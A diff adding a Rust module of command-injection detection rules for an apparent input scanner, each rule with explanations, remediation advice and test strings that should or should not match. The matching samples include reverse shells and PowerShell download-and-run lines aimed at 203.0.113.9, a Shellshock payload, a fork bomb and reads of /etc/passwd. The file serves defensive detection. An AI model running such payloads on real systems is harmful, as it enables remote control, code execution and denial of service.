@@ -1,0 +1,268 @@
+//! The rules about commands.
+
+use super::detect;
+use crate::finding::{Class, Paranoia, Rule, Severity};
+use crate::rules::registry::Detector;
+use crate::rules::scan::Bytes;
+
+pub(in crate::rules) static DETECTOR: Detector = Detector {
+    class: Class::Command,
+    // A command line alone, which paranoia 2 looks for, has letters at least.
+    wants: Bytes::LETTER,
+    detect,
+    rules: &[
+        &CHAINED,
+        &SUBSTITUTION,
+        &OBFUSCATED,
+        &FIELD_SEPARATOR,
+        &ARITHMETIC,
+        &BRACE_EXPANSION,
+        &SHELLSHOCK,
+        &FORK_BOMB,
+        &REVERSE_SHELL,
+        &BATCH,
+        &POWERSHELL,
+        &SUSPECTED,
+        &COMMAND_LINE,
+    ],
+};
+
+// Level 1: the weight of several signs, none of which is enough alone.
+pub(super) static CHAINED: Rule = Rule {
+    id: "command.chained-command",
+    class: Class::Command,
+    severity: Severity::Critical,
+    cwe: 78,
+    paranoia: Paranoia::One,
+    summary: "a separator of a shell, and a command behind it",
+    details: "\
+`8.8.8.8; wget …` ends the command that the value was put into and starts another. Found are `;`, `|`, `&`, `&&`, `||` and line \
+breaks with the name of a command behind them, when what stands before and behind looks like a value that is left and a command \
+that is run, not like prose, a table or code.
+
+Start programs with a list of arguments and without a shell (`execve`, `subprocess.run([…])`, `execFile`).",
+    matches: &[
+        "8.8.8.8; uname -r",
+        "x.png|id",
+        "report && netstat -tln",
+        "'; wget http://203.0.113.9/a",
+        "| type C:\\Windows\\win.ini",
+        "& net localgroup",
+        "x\"); ifconfig #",
+        "a;/usr/sbin/arp -n",
+        "; sudo lsof",
+        "; n=$(whoami)",
+        "x; h=who;i=ami;$h$i",
+        "|| [ 1 -eq $(id -u) ]",
+    ],
+    passes: &[
+        "salt & pepper; more of it",
+        "read; sort; file",
+        "id; name; date",
+        "Tom && Jerry",
+        "| id | name |",
+        "?page=2&id=7&sort=date",
+        "first, cat food; then sleep",
+        "AT&T; find us at the mall",
+        "He sat; time passed",
+        "if (a && b) { kill(c); }",
+    ],
+};
+
+// Level 1: as for chained commands. Backticks in prose are Markdown and do not count.
+pub(super) static SUBSTITUTION: Rule = Rule {
+    id: "command.substitution",
+    class: Class::Command,
+    severity: Severity::Critical,
+    cwe: 78,
+    paranoia: Paranoia::One,
+    summary: "a substitution of a shell with a command in it",
+    details: "`$(whoami)`, `` `id` `` and `<(id)` run a command within another, in double quotes too. Start programs without a shell.",
+    matches: &["$(whoami)", "x$(cat /etc/passwd)y", "`id`", "\"`uname -a`\"", "<(ifconfig)", "a$(ls)"],
+    passes: &["costs $(5)", "$(document).ready(f)", "use `ls` to list", "$(CC) -o $@", "`cat` and `sort`", "f(<(x))"],
+};
+
+// Level 1: nobody splits the name of a command but to hide it.
+pub(super) static OBFUSCATED: Rule = Rule {
+    id: "command.obfuscated-command",
+    class: Class::Command,
+    severity: Severity::Critical,
+    cwe: 78,
+    paranoia: Paranoia::One,
+    summary: "a command whose name is hidden by quotes, escapes or empty expansions",
+    details: "`w'h'oami`, `c\\at`, `un$@ame` and `who^ami` run like the plain name and pass filters that look for it. Start programs \
+              without a shell.",
+    matches: &[
+        "; w'h'oami",
+        "|c\\at /etc/hosts",
+        "x;un$@ame",
+        "& who^ami",
+        "ne``tstat -an",
+        "; 'curl' http://203.0.113.9/",
+    ],
+    passes: &["mind the p's and q's", "C:\\cat", "don't; can't", "x'y'", "l'id; l'ego", "\"more\"; \"less\""],
+};
+
+// Level 1: joined to a word, it has no other use than to avoid a blank.
+pub(super) static FIELD_SEPARATOR: Rule = Rule {
+    id: "command.ifs-blank",
+    class: Class::Command,
+    severity: Severity::Critical,
+    cwe: 78,
+    paranoia: Paranoia::One,
+    summary: "the variable IFS in place of a blank in a command",
+    details: "`cat$IFS/etc/passwd` is a command with an argument, without a blank, to pass filters that refuse blanks. Start programs \
+              without a shell.",
+    matches: &["cat$IFS/etc/group", "ls${IFS}-la", "ping${IFS%??}-c1", "{echo,$IFS}$IFS$9x"],
+    passes: &["OLD=$IFS", "IFS=,", "the variable $IFS", "\"$IFS\"", "${IFSET}"],
+};
+
+// Level 1: in the middle of a word, a sum of numbers asks only whether a shell computes it.
+pub(super) static ARITHMETIC: Rule = Rule {
+    id: "command.arithmetic-probe",
+    class: Class::Command,
+    severity: Severity::High,
+    cwe: 78,
+    paranoia: Paranoia::One,
+    summary: "a sum of numbers in a word, in a shell's syntax",
+    details: "`echo ab$((7+8))cd` says nothing but `ab15cd`: it asks whether a shell reads the value. Start programs without a shell.",
+    matches: &["echo x$((7+8))", "AB$((3*4))", "a$((1+1))$(echo b)"],
+    passes: &["sleep $((60*5))", "n=$((1+1))", "$((i+1))", "x$((i + 1))"],
+};
+
+// Level 1: braces with an empty place next to a command, or a command with an option or a path.
+pub(super) static BRACE_EXPANSION: Rule = Rule {
+    id: "command.brace-expansion",
+    class: Class::Command,
+    severity: Severity::Critical,
+    cwe: 78,
+    paranoia: Paranoia::One,
+    summary: "a command written as a brace expansion, without blanks",
+    details: "`{cat,/etc/passwd}` expands to a command and its argument without a blank in it. Start programs without a shell.",
+    matches: &["{wget,http://203.0.113.9/}", ";{cat,/etc/group}", "{,whoami}", "{ls,-la}", "{uname,}"],
+    passes: &["{id,name}", "src/{cat,dog}.png", "{a,b}", "{\"id\",1}", "{sort,find} by"],
+};
+
+// Level 1: a value that starts so is a function for old versions of bash.
+pub(super) static SHELLSHOCK: Rule = Rule {
+    id: "command.shellshock",
+    class: Class::Command,
+    severity: Severity::Critical,
+    cwe: 78,
+    paranoia: Paranoia::One,
+    summary: "a function definition as old versions of bash import it from the environment",
+    details: "Old versions of bash run what follows a value that starts with `() {` when it comes from an environment variable \
+              (CVE-2014-6271, CVE-2014-7169). Web servers put headers there for CGI programs.",
+    matches: &["() { :; }; uname", "() { x; };id", "Agent: () { _; } >_[$($())] { id; }", "a='() { :;}; ls'"],
+    passes: &["function () { return 1; }", "() => {}", "main() { x; }", "foo (){}", "on('x', function() { y(); });"],
+};
+
+// Level 1: nothing else calls itself on both sides of a pipe.
+pub(super) static FORK_BOMB: Rule = Rule {
+    id: "command.fork-bomb",
+    class: Class::Command,
+    severity: Severity::High,
+    cwe: 78,
+    paranoia: Paranoia::One,
+    summary: "a function of a shell that starts itself until nothing is left",
+    details: "`:(){ :|:& };:` fills the machine with processes. Start programs without a shell.",
+    matches: &[":(){ :|:& };:", "b() { b|b& }; b", "x(){ x & x; };x"],
+    passes: &["f() { g(); }", "f(x) { f | g }", "a(){ b|c }"],
+};
+
+// Level 1: a shell that is connected to the network has no honest use in a value.
+pub(super) static REVERSE_SHELL: Rule = Rule {
+    id: "command.reverse-shell",
+    class: Class::Command,
+    severity: Severity::Critical,
+    cwe: 78,
+    paranoia: Paranoia::One,
+    summary: "a shell that is connected to the network",
+    details: "`bash -i >& /dev/tcp/…` and `nc -e /bin/sh` give a shell on the machine to somebody elsewhere.",
+    matches: &[
+        "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
+        "nc -e /bin/sh 203.0.113.9 1",
+        "ncat -lvp 9 -e cmd.exe",
+        "exec 5<>/dev/udp/203.0.113.9/53",
+    ],
+    passes: &["/dev/tcp is a feature of bash", "nc -z host 80", "the nc -e option", "nc 17"],
+};
+
+// Level 1: the variables of `for` are written so nowhere else.
+pub(super) static BATCH: Rule = Rule {
+    id: "command.batch-control",
+    class: Class::Command,
+    severity: Severity::High,
+    cwe: 78,
+    paranoia: Paranoia::One,
+    summary: "a loop or condition of cmd.exe",
+    details: "`for %i in (…) do …` and `if exist …` of `cmd.exe` run commands. Start programs without a shell.",
+    matches: &[
+        "for %i in (a b) do calc",
+        "FOR /F \"tokens=1\" %%g IN ('ver') DO echo %%g",
+        "& if not exist C:\\x md C:\\x",
+        "if (%a%) equ (1) del x",
+        "if /i \"%~2\" == \"x\" (exit /b)",
+    ],
+    passes: &[
+        "for x in (1, 2)",
+        "if exist, then what?",
+        "for 5 % in (the) year",
+        "if x == y (see below)",
+        "if not, do it",
+    ],
+};
+
+// Level 1: a cmdlet that runs or fetches, where a command starts; or PowerShell told to run something.
+pub(super) static POWERSHELL: Rule = Rule {
+    id: "command.powershell",
+    class: Class::Command,
+    severity: Severity::Critical,
+    cwe: 78,
+    paranoia: Paranoia::One,
+    summary: "a command of PowerShell that runs or fetches something",
+    details: "`IEX (New-Object Net.WebClient).DownloadString(…)`, `powershell -EncodedCommand …` and cmdlets behind a separator run \
+              code. Start programs without a shell.",
+    matches: &[
+        "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/')",
+        "powershell -enc SQBFAFgA",
+        ";Get-Process",
+        "powershell.exe C:\\x.ps1",
+        "| Invoke-Expression",
+        "iex(iwr 203.0.113.9)",
+    ],
+    passes: &[
+        "PowerShell is a shell",
+        "Get-Process lists processes",
+        "we use powershell - often",
+        "iex",
+        "new-object pattern",
+    ],
+};
+
+// Level 2: one sign less than level 1 asks for.
+pub(super) static SUSPECTED: Rule = Rule {
+    id: "command.suspected-command",
+    class: Class::Command,
+    severity: Severity::Medium,
+    cwe: 78,
+    paranoia: Paranoia::Two,
+    summary: "what could be a command behind a separator",
+    details: "As `command.chained-command`, with a sign less: the command is an English word, or prose stands before it.",
+    matches: &["; time", "& date", "look here; rm -r x"],
+    passes: &["red; green", "a & b", "one; two | three"],
+};
+
+// Level 2: people write about commands.
+pub(super) static COMMAND_LINE: Rule = Rule {
+    id: "command.command-line",
+    class: Class::Command,
+    severity: Severity::Medium,
+    cwe: 78,
+    paranoia: Paranoia::Two,
+    summary: "a whole command line",
+    details: "The value is a command with arguments, such as `cat /etc/passwd`. Dangerous where it becomes a line of a script, a job or an \
+              argument that is run.",
+    matches: &["cat /etc/group", "uname -a", "/usr/bin/id", "ls -la /var", "net user x y /add"],
+    passes: &["cat and mouse", "time is money", "chmod 777 explained", "find me at home", "sudo make me a sandwich"],
+};
